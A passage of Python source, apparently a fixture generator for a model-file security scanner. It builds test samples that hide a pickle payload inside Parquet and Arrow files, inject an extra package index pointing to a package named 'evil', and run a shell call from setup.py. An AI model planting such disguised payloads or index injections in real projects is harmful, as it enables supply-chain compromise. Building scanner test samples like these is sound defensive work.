    yield "parquet-pickle", {"data.parquet": b"PAR1" + EVIL + b"PAR1"}
    yield "arrow-pickle", {"data.arrow": b"ARROW1\x00\x00" + EVIL + b"ARROW1"}
    yield "requirements-index", {"requirements.txt": b"--extra-index-url http://127.0.0.1:9/\nevil\n",
                                 "model.pkl": EVIL}  # fmt: skip
    yield "setup", {"setup.py": b"import os\nos.system('true')\n", "model.safetensors": b"\x02" + bytes(
        7) + b"{}"}  # fmt: skip
    yield "sqlite", {"model.db": b"SQLite format 3\x00" + rng.bytes(200)}


PARTS = {
    "format: Keras": keras, "format: SavedModel": tensorflow, "format: ONNX": onnx,
    "format: language models": llm, "format: safetensors and NumPy": tensors, "format: skops": skops,
    "format: markup, folders and others": markup,
}  # fmt: skip


def samples(rng: Rng) -> Iterator[Sample]:
    for category, part in PARTS.items():
        for name, files in part(rng):  # type: ignore[operator]
            if isinstance(files, bytes):
                stem, dot, ending = name.partition(".")
                yield one(category, stem, dot + ending, files)
            else:
                yield Sample(category, name, files)
